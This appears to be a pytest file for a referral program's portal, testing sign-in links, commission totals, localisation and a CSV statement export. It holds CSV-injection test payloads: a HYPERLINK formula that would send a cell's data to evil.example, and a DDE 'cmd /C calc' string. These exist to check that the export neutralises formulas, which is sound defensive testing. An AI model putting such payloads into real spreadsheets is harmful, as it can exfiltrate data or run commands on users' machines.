@@ -1,0 +1,546 @@
+"""The referrer portal (`/me`), in process over a real database filled with known referrals and
+a real SMTP server on loopback that receives the sign-in links.
+
+The referrals are walked through the one transition table (`apply_action`) at chosen instants
+and recorded the way the workflow records them (`save_referral`; `save_commission` with its
+ledger lines), so the dates, amounts and totals below are worked out by hand from `known`.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import re
+import time
+import uuid
+from collections.abc import AsyncIterator
+from dataclasses import dataclass
+from datetime import UTC, datetime, timedelta
+from decimal import Decimal
+from html.parser import HTMLParser
+from typing import Any
+from zoneinfo import ZoneInfo
+
+import httpx
+import pytest
+import pytest_asyncio
+from fastapi import FastAPI
+from itsdangerous import TimestampSigner
+from sqlalchemy.engine import Engine
+
+from activities.ledger import Balance, balances, save_commission
+from activities.records import save_referral
+from starter.links import status_token
+from starter.web import create_app
+from starter.web.portal import FORMULA_STARTS, spreadsheet_text
+from starter.web.signin import REFERRER
+from tests.conftest import MailSink
+from tests.factories import referral_input
+from workflows.models import (
+    Action,
+    CommissionRecord,
+    ProgramRules,
+    ReferralRecord,
+    ReferralState,
+    StaffAction,
+)
+from workflows.transitions import apply_action, commission_lines, initial_state
+
+KEY = "portal-test-secret"
+ZONE = ZoneInfo("Europe/Paris")  # program.yaml's calendar
+EVIL = '=HYPERLINK("https://evil.example/?x="&A1,"Details")'
+
+
+def utc(text: str) -> datetime:
+    return datetime.fromisoformat(text).replace(tzinfo=UTC)
+
+
+@dataclass
+class Referrers:
+    claire: str
+    bob: str
+
+
+def walk(
+    engine: Engine,
+    rules: ProgramRules,
+    referral_id: str,
+    email: str,
+    received: str,
+    steps: list[tuple[str, Action, dict[str, Any]]],
+    **changes: Any,
+) -> None:
+    """Record a referral received at `received`, then moved by each `(at, action, options)`."""
+    given = referral_input(
+        rules,
+        referral_id,
+        utc(received),
+        **{
+            "referrer.email": email,
+            "prospect.website": f"https://{referral_id.lower()}.example",
+            **changes,
+        },
+    )
+    state = initial_state(given)
+    for at, action, options in steps:
+        request = StaffAction(action=action, actor="desk-anna", **options)
+        new = apply_action(state, request, rules, utc(at))
+        assert isinstance(new, ReferralState), new
+        if action is Action.PAYOUT:  # as the workflow opens the clawback window
+            new.clawback_until = utc(at) + timedelta(days=rules.clawback.days)
+        if new.commission is not None:
+            ledger = CommissionRecord.after(
+                new,
+                event=action.value,
+                event_key=f"{referral_id}/{new.history[-1].seq}",
+                at=utc(at),
+                actor=request.actor,
+                note=None,
+            )
+            ledger.lines = commission_lines(state, new, request)
+            save_commission(engine, ledger)
+        state = new
+    save_referral(
+        engine, ReferralRecord(state=state.model_copy(update={"history": []}), events=state.history)
+    )
+
+
+def known(engine: Engine, shipped_rules: ProgramRules) -> Referrers:
+    """Claire's four referrals (EUR and USD commissions) and one of Bob's, under the shipped
+    program (its clawback window) without its EUR cap, so a deal can be recorded in dollars.
+
+    R-PORTAL0001 EUR: won on a 180 000 basis (commission 18 000), paid out, then a 30 000
+      refund claws back 3 000.
+    R-PORTAL0002 USD: won on 50 000 (5 000), customer paid, a 10 000 refund before payout
+      claws back 1 000: 4 000 payable.
+    R-PORTAL0003: approved, protected; its prospect's name is a spreadsheet formula.
+    R-PORTAL0004 EUR: won on 90 000 (9 000), then cancelled: the commission is void.
+    R-PORTAL0005: Bob's, won on 100 000 EUR; never on Claire's pages.
+    """
+    uncapped = shipped_rules.commission.model_copy(update={"cap": None})
+    rules = shipped_rules.model_copy(update={"commission": uncapped})
+    tag = uuid.uuid4().hex[:8]
+    who = Referrers(claire=f"Claire.{tag}@Conseil-Martin.example", bob=f"bob.{tag}@partner.example")
+    walk(engine, rules, "R-PORTAL0001", who.claire, "2026-09-01T08:00:00", [
+        ("2026-09-02T23:30:00", Action.CONTACTED, {}),  # 3 September in Paris
+        ("2026-09-04T09:00:00", Action.ACCEPT, {}),
+        ("2026-09-10T09:00:00", Action.APPROVE, {}),
+        ("2026-10-01T09:00:00", Action.WON,
+         {"amount": Decimal("180000"), "currency": "EUR"}),
+        ("2026-10-20T09:00:00", Action.PAYMENT,
+         {"amount": Decimal("180000"), "reference": "INV-1"}),
+        ("2026-10-25T09:00:00", Action.PAYOUT, {"reference": "VIR-1"}),
+        ("2026-11-05T09:00:00", Action.REFUND,
+         {"amount": Decimal("30000"), "reference": "AV-1", "reason": "credit note"}),
+    ], **{"prospect.company": "Fromagerie Bellevue SAS"})  # fmt: skip
+    walk(engine, rules, "R-PORTAL0002", who.claire, "2026-10-05T09:00:00", [
+        ("2026-10-06T09:00:00", Action.CONTACTED, {}),
+        ("2026-10-07T09:00:00", Action.ACCEPT, {}),
+        ("2026-10-08T09:00:00", Action.APPROVE, {}),
+        ("2026-11-02T09:00:00", Action.WON,
+         {"amount": Decimal("50000"), "currency": "USD"}),
+        ("2026-11-10T09:00:00", Action.PAYMENT,
+         {"amount": Decimal("50000"), "reference": "INV-2"}),
+        ("2026-11-12T09:00:00", Action.REFUND,
+         {"amount": Decimal("10000"), "reference": "AV-2", "reason": "one site fewer"}),
+    ], **{"prospect.company": "Harbor Logistics Inc.",
+          "opportunity.product": "cloudsuite-distribution"})  # fmt: skip
+    walk(engine, rules, "R-PORTAL0003", who.claire, "2026-11-16T10:00:00", [
+        ("2026-11-17T10:00:00", Action.CONTACTED, {}),
+        ("2026-11-18T10:00:00", Action.ACCEPT, {}),  # protected 180 days: to 17 May 2027
+        ("2026-11-20T10:00:00", Action.APPROVE, {}),
+    ], **{"prospect.company": EVIL, "opportunity.product": "hcm-talent"})  # fmt: skip
+    walk(engine, rules, "R-PORTAL0004", who.claire, "2026-11-18T10:00:00", [
+        ("2026-11-19T10:00:00", Action.CONTACTED, {}),
+        ("2026-11-20T10:00:00", Action.ACCEPT, {}),
+        ("2026-11-21T10:00:00", Action.APPROVE, {}),
+        ("2026-11-23T10:00:00", Action.WON,
+         {"amount": Decimal("90000"), "currency": "EUR"}),
+        ("2026-11-24T10:00:00", Action.CANCEL, {"reason": "signed with a reseller"}),
+    ], **{"prospect.company": "Atelier Dupré"})  # fmt: skip
+    walk(engine, rules, "R-PORTAL0005", who.bob, "2026-11-02T10:00:00", [
+        ("2026-11-03T10:00:00", Action.CONTACTED, {}),
+        ("2026-11-04T10:00:00", Action.ACCEPT, {}),
+        ("2026-11-05T10:00:00", Action.APPROVE, {}),
+        ("2026-11-06T10:00:00", Action.WON,
+         {"amount": Decimal("100000"), "currency": "EUR"}),
+    ], **{"prospect.company": "Bob's Prospect GmbH"})  # fmt: skip
+    return who
+
+
+class Portal(HTMLParser):
+    """What the portal shows: per referral row (by id) its stage and the text of its marked
+    cells (`data-cell`, `data-date`, `data-amount`) and commission status; per currency its
+    totals (`data-total`); the status link of each referral; the texts of a few elements."""
+
+    MARKS = ("data-cell", "data-date", "data-amount", "data-total")
+    ELEMENTS = (
+        "h1",
+        "referrals-caption",
+        "signed-in",
+        "statement-link",
+        "no-commission",
+        "owed-EUR",
+        "owed-USD",
+    )
+
+    def __init__(self, page: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.rows: dict[str, dict[str, str]] = {}
+        self.totals: dict[str, dict[str, str]] = {}
+        self.links: dict[str, str] = {}
+        self.texts: dict[str, str] = {}
+        self._row: dict[str, str] | None = None
+        self._reference: str | None = None
+        # The elements whose text is being collected: (tag, where, key).
+        self._open: list[tuple[str, dict[str, str], str]] = []
+        self.feed(page)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        found = {name: value or "" for name, value in attrs}
+        if tag == "tr" and found.get("id", "").startswith("referral-"):
+            self._row = self.rows.setdefault(found["id"].removeprefix("referral-"), {})
+            self._row["stage"] = found["data-stage"]
+        elif tag == "tr" and "data-currency" in found:
+            self._row = self.totals.setdefault(found["data-currency"], {})
+        if self._row is not None:
+            if tag == "a" and "href" in found:
+                self._reference = found["href"]
+            if "data-status" in found:
+                self._row["status"] = found["data-status"]
+            for mark in self.MARKS:
+                if mark in found:
+                    self._open.append((tag, self._row, found[mark]))
+        for element in self.ELEMENTS:
+            if element in (tag, found.get("id")):
+                self._open.append((tag, self.texts, element))
+
+    def handle_endtag(self, tag: str) -> None:
+        if tag == "tr":
+            self._row = None
+        if self._open and self._open[-1][0] == tag:
+            self._open.pop()
+
+    def handle_data(self, data: str) -> None:
+        if self._reference is not None:
+            self.links[data.strip()] = self._reference
+            self._reference = None
+        if self._open:
+            _, where, key = self._open[-1]
+            # ASCII white space only: money and dates keep their no-break spaces.
+            where[key] = re.sub(r"[ \t\r\n]+", " ", f"{where.get(key, '')} {data}").strip()
+
+
+def app_for(engine: Engine, rules: ProgramRules, sink: MailSink, limit: str = "off") -> FastAPI:
+    return create_app(rules=rules, engine=engine, key=KEY, smtp=sink.settings(), rate_limit=limit)
+
+
+def client_for(app: FastAPI) -> httpx.AsyncClient:
+    return httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://testserver")
+
+
+async def ask_for_link(client: httpx.AsyncClient, email: str, lang: str = "en") -> httpx.Response:
+    form = await client.get(f"/me?lang={lang}")  # the sign-in form, which sets its CSRF cookie
+    csrf = form.text.split('name="csrf" value="')[1].split('"')[0]
+    return await client.post("/me/sign-in", data={"email": email, "lang": lang, "csrf": csrf})
+
+
+async def new_link(client: httpx.AsyncClient, sink: MailSink, email: str, lang: str = "en") -> str:
+    """Ask for a sign-in link for `email`; the link emailed (after the answer) in return."""
+    seen = set(sink.sign_in_links(email))
+    await ask_for_link(client, email, lang)
+    deadline = time.monotonic() + 10
+    while not (new := [link for link in sink.sign_in_links(email) if link not in seen]):
+        assert time.monotonic() < deadline, f"no sign-in link reached {email}"
+        await asyncio.sleep(0.05)
+    [link] = new
+    return link
+
+
+async def sign_in(client: httpx.AsyncClient, sink: MailSink, email: str, lang: str = "en") -> None:
+    opened = await client.get(await new_link(client, sink, email, lang))
+    assert opened.status_code == 303, opened.text
+
+
+@pytest.fixture
+def who(engine: Engine, shipped_rules: ProgramRules) -> Referrers:
+    return known(engine, shipped_rules)
+
+
+@pytest_asyncio.fixture
+async def web(
+    engine: Engine, shipped_rules: ProgramRules, mail_sink: MailSink
+) -> AsyncIterator[httpx.AsyncClient]:
+    async with client_for(app_for(engine, shipped_rules, mail_sink)) as client:
+        yield client
+
+
+# --- the figures -------------------------------------------------------------------------------
+
+
+def test_balances_define_payable_from_the_ledger(engine: Engine, who: Referrers) -> None:
+    """Payable is what the customer paid for and was not paid out, net of the clawbacks that
+    lowered it; a clawback after payout is clawed back, not payable."""
+    claire, bob = who.claire.lower(), who.bob
+    d = Decimal
+    assert balances(engine, referrer_email=claire) == [
+        Balance(claire, "EUR", d("18000.0000"), d("3000.0000"), d("18000.0000"), d(0)),
+        Balance(claire, "USD", d("5000.0000"), d("1000.0000"), d(0), d("4000.0000")),
+    ]
+    assert balances(engine, referrer_email=bob) == [
+        Balance(bob, "EUR", d("10000.0000"), d(0), d(0), d(0)),
+    ]
+
+
+# --- signing in --------------------------------------------------------------------------------
+
+
+async def test_known_and_unknown_addresses_get_the_same_answer(
+    web: httpx.AsyncClient, mail_sink: MailSink, who: Referrers
+) -> None:
+    unknown = f"nobody-{uuid.uuid4().hex[:8]}@conseil-martin.example"
+    for_unknown = await ask_for_link(web, unknown)
+    link = await new_link(web, mail_sink, who.claire)
+    for_known = await ask_for_link(web, who.claire)
+    assert for_known.status_code == for_unknown.status_code == 200
+    assert for_known.text == for_unknown.text
+    assert link.startswith("/me/sign-in/") and link.endswith("?lang=en")
+    await asyncio.sleep(0.3)
+    assert mail_sink.sign_in_links(unknown) == []
+
+
+async def test_the_link_signs_in_once_with_a_safe_cookie_and_sign_out_ends_it(
+    web: httpx.AsyncClient, mail_sink: MailSink, who: Referrers
+) -> None:
+    link = await new_link(web, mail_sink, who.claire)
+    opened = await web.get(link)
+    assert opened.status_code == 303 and opened.headers["location"] == "/me?lang=en"
+    cookie = opened.headers["set-cookie"].lower()
+    assert cookie.startswith(f"{REFERRER.cookie}=")
+    for attribute in ("httponly", "samesite=lax", "path=/me"):
+        assert attribute in cookie
+    portal = await web.get("/me")
+    assert portal.status_code == 200 and 'id="referrals"' in portal.text
+    assert portal.headers["cache-control"] == "no-store"
+
+    again = await web.get(link)  # the same link a second time: refused, still signed in
+    assert again.status_code == 400 and 'id="problem"' in again.text
+
+    signed_out = await web.post("/me/sign-out?lang=en")
+    assert signed_out.status_code == 303 and signed_out.headers["location"] == "/me?lang=en"
+    after = await web.get("/me")
+    assert after.status_code == 200
+    assert 'id="referrals"' not in after.text and 'action="/me/sign-in"' in after.text
+    statement = await web.get("/me/statement.csv?lang=en")
+    assert statement.status_code == 303 and statement.headers["location"] == "/me?lang=en"
+
+
+async def test_expired_and_forged_links_are_refused(
+    web: httpx.AsyncClient, mail_sink: MailSink, who: Referrers, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    issued = int(time.time()) - 31 * 60  # the link is signed when asked for, 31 minutes ago
+    with monkeypatch.context() as clock:
+        clock.setattr(TimestampSigner, "get_timestamp", lambda self: issued)
+        stale = await new_link(web, mail_sink, who.claire)
+    fresh = await new_link(web, mail_sink, who.claire)
+    path, _, query = fresh.partition("?")
+    forged = f"{path[:-3]}{'AAA' if not path.endswith('AAA') else 'BBB'}?{query}"
+
+    for link, text in ((stale, "expired"), (forged, "not valid")):
+        refused = await web.get(link)
+        assert refused.status_code == 400, link
+        assert text in refused.text and REFERRER.cookie not in refused.headers.get("set-cookie", "")
+    assert 'id="referrals"' not in (await web.get("/me")).text
+    assert (await web.get(fresh)).status_code == 303  # the untouched link still works
+
+
+async def test_asking_for_links_is_rate_limited(
+    engine: Engine, shipped_rules: ProgramRules, mail_sink: MailSink, who: Referrers
+) -> None:
+    async with client_for(app_for(engine, shipped_rules, mail_sink, "3/minute")) as client:
+        answers = [await ask_for_link(client, who.claire) for _ in range(4)]
+    assert [a.status_code for a in answers] == [200, 200, 200, 429]
+    assert int(answers[3].headers["retry-after"]) >= 1
+
+
+# --- the portal --------------------------------------------------------------------------------
+
+
+async def test_the_portal_lists_the_referrers_referrals_and_totals(
+    web: httpx.AsyncClient, mail_sink: MailSink, who: Referrers
+) -> None:
+    await sign_in(web, mail_sink, who.claire)
+    page = await web.get("/me?lang=en")
+    shown = Portal(page.text)
+
+    # The site's policy holds: no script (none is needed), no inline style.
+    assert "style-src 'self'" in page.headers["content-security-policy"]
+    assert "<script" not in page.text and " style=" not in page.text
+    assert shown.texts["h1"] == "Your referrals"
+    assert shown.texts["signed-in"] == f"Signed in as {who.claire.lower()}."
+    # Newest first, Claire's only: not Bob's R-PORTAL0005.
+    assert list(shown.rows) == ["R-PORTAL0004", "R-PORTAL0003", "R-PORTAL0002", "R-PORTAL0001"]
+    assert shown.texts["referrals-caption"].startswith("4 referrals, newest first")
+    assert "Bob" not in page.text
+    assert shown.rows["R-PORTAL0001"] == {
+        "stage": "commission_paid",
+        "prospect": "Fromagerie Bellevue SAS",
+        "product": "CloudSuite Financials",
+        "step": "Commission paid",
+        "submitted": "September 1, 2026",
+        "contacted": "September 3, 2026",  # 23:30 UTC on the 2nd is the 3rd in Paris
+        "won": "October 1, 2026",
+        "commission": "€18,000.00",
+        "status": "paid",
+        "paid": "Paid: €18,000.00",
+        "clawed_back": "Clawed back: €3,000.00",
+    }
+    assert shown.rows["R-PORTAL0002"] == {
+        "stage": "commission_payable",
+        "prospect": "Harbor Logistics Inc.",
+        "product": "CloudSuite Distribution",
+        "step": "Customer paid, commission payable",
+        "submitted": "October 5, 2026",
+        "contacted": "October 6, 2026",
+        "won": "November 2, 2026",
+        "commission": "$5,000.00",
+        "status": "payable",
+        "clawed_back": "Clawed back: $1,000.00",
+    }
+    # Protected 180 days from acceptance (18 November 2026, 11:00 in Paris): to 17 May 2027.
+    assert shown.rows["R-PORTAL0003"] == {
+        "stage": "approved",
+        "prospect": EVIL,  # shown as typed, as text
+        "product": "HCM Talent Management",
+        "step": "Approved, in the sales cycle",
+        "submitted": "November 16, 2026",
+        "contacted": "November 17, 2026",
+        "protected_until": "May 17, 2027",
+    }
+    assert shown.rows["R-PORTAL0004"]["status"] == "void"
+    assert "protected_until" not in shown.rows["R-PORTAL0004"]  # won, then cancelled
+    assert shown.totals == {
+        "EUR": {
+            "earned": "€18,000.00",
+            "payable": "€0.00",
+            "paid": "€18,000.00",
+            "clawed_back": "€3,000.00",
+        },
+        "USD": {
+            "earned": "$5,000.00",
+            "payable": "$4,000.00",
+            "paid": "$0.00",
+            "clawed_back": "$1,000.00",
+        },
+    }
+    # Paid 18 000, then 3 000 clawed back: Claire owes it, to be netted on her next payout.
+    assert shown.texts["owed-EUR"] == (
+        "You owe €3,000.00 from commissions clawed back after they were paid: it will be "
+        "deducted from your next commission payment."
+    )
+    assert "owed-USD" not in shown.texts
+    # Each row opens its referral's status page, which shows that referral.
+    link = shown.links["R-PORTAL0003"]
+    assert link == f"/status/{status_token('R-PORTAL0003', KEY)}?lang=en"
+    status = await web.get(link)
+    assert status.status_code == 200 and "R-PORTAL0003" in status.text
+
+
+async def test_bob_sees_only_his_referral(
+    web: httpx.AsyncClient, mail_sink: MailSink, who: Referrers
+) -> None:
+    await sign_in(web, mail_sink, who.bob)
+    shown = Portal((await web.get("/me?lang=en")).text)
+    assert list(shown.rows) == ["R-PORTAL0005"]
+    assert list(shown.totals) == ["EUR"]
+    assert shown.totals["EUR"]["earned"] == "€10,000.00"
+
+
+async def test_a_referrer_without_commission_yet(
+    web: httpx.AsyncClient, mail_sink: MailSink, engine: Engine, shipped_rules: ProgramRules
+) -> None:
+    email = f"new.{uuid.uuid4().hex[:8]}@partner.example"
+    walk(engine, shipped_rules, "R-PORTAL0006", email, "2026-11-25T10:00:00", [])
+    await sign_in(web, mail_sink, email)
+    shown = Portal((await web.get("/me?lang=en")).text)
+    assert shown.rows == {
+        "R-PORTAL0006": {
+            "stage": "submitted",
+            "prospect": "Fromagerie Bellevue SAS",
+            "product": "CloudSuite Financials",
+            "step": "Received, awaiting contact",
+            "submitted": "November 25, 2026",
+        }
+    }
+    assert shown.totals == {}
+    assert shown.texts["no-commission"].startswith("No commission yet")
+    statement = (await web.get("/me/statement.csv")).content.decode("utf-8-sig")
+    assert statement.endswith("\r\n\r\ntotal,currency,earned,payable,paid,clawed_back\r\n")
+
+
+async def test_the_portal_in_french_and_by_the_browsers_language(
+    web: httpx.AsyncClient, mail_sink: MailSink, who: Referrers
+) -> None:
+    await sign_in(web, mail_sink, who.claire, lang="fr")
+    french = await web.get("/me", headers={"accept-language": "fr-FR,fr;q=0.9,en;q=0.5"})
+    shown = Portal(french.text)
+    assert '<html lang="fr">' in french.text
+    assert shown.texts["h1"] == "Vos recommandations"
+    assert shown.texts["referrals-caption"].startswith("4 recommandations, de la plus récente")
+    assert shown.rows["R-PORTAL0001"]["contacted"] == "3 septembre 2026"
+    assert shown.rows["R-PORTAL0001"]["commission"] == "18\u202f000,00\xa0€"
+    assert shown.rows["R-PORTAL0001"]["clawed_back"] == "Reprise : 3\u202f000,00\xa0€"
+    assert shown.totals["USD"]["payable"] == "4\u202f000,00\xa0$US"
+    assert shown.rows["R-PORTAL0002"]["step"] == "Le client a payé, commission à verser"
+    assert 'href="/me?lang=en"' in french.text  # the switch to English
+
+    english = await web.get("/me?lang=en", headers={"accept-language": "fr-FR"})
+    assert '<html lang="en">' in english.text
+    assert Portal(english.text).texts["h1"] == "Your referrals"
+
+
+# --- the CSV statement -------------------------------------------------------------------------
+
+
+async def test_the_csv_statement(
+    web: httpx.AsyncClient, mail_sink: MailSink, who: Referrers
+) -> None:
+    await sign_in(web, mail_sink, who.claire)
+    shown = Portal((await web.get("/me?lang=en")).text)
+    assert shown.texts["statement-link"] == "Download the statement (CSV)"
+    today = datetime.now(UTC).astimezone(ZONE).date().isoformat()
+
+    download = await web.get("/me/statement.csv?lang=en")
+
+    assert download.status_code == 200
+    assert download.headers["content-type"] == "text/csv; charset=utf-8"
+    assert download.headers["content-disposition"] == (
+        f'attachment; filename="referrals-statement-{today}.csv"'
+    )
+    assert download.headers["cache-control"] == "no-store"
+    assert download.content.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM, for Excel
+    assert download.content.decode("utf-8-sig") == "\r\n".join(
+        [
+            "reference,submitted,prospect,product,stage,contacted,protected_until,won,"
+            "commission,currency,commission_status,paid,clawed_back",
+            "R-PORTAL0004,2026-11-18,Atelier Dupré,CloudSuite Financials,cancelled,"
+            "2026-11-19,,2026-11-23,9000.00,EUR,void,0.00,0.00",
+            # The formula is neutralised: a quote first, so a spreadsheet shows it as text.
+            'R-PORTAL0003,2026-11-16,"\'=HYPERLINK(""https://evil.example/?x=""&A1,'
+            '""Details"")",HCM Talent Management,approved,2026-11-17,2027-05-17,,,,,,',
+            "R-PORTAL0002,2026-10-05,Harbor Logistics Inc.,CloudSuite Distribution,"
+            "commission_payable,2026-10-06,,2026-11-02,5000.00,USD,payable,0.00,1000.00",
+            "R-PORTAL0001,2026-09-01,Fromagerie Bellevue SAS,CloudSuite Financials,"
+            "commission_paid,2026-09-03,,2026-10-01,18000.00,EUR,paid,18000.00,3000.00",
+            "",
+            "total,currency,earned,payable,paid,clawed_back",
+            "total,EUR,18000.00,0.00,18000.00,3000.00",
+            "total,USD,5000.00,4000.00,0.00,1000.00",
+            "",
+        ]
+    )
+
+
+@pytest.mark.parametrize("start", FORMULA_STARTS)
+def test_every_formula_start_is_neutralised(start: str) -> None:
+    assert spreadsheet_text(f"{start}cmd|' /C calc'!A0") == f"'{start}cmd|' /C calc'!A0"
+    assert spreadsheet_text(f"Acme {start} Co") == f"Acme {start} Co"
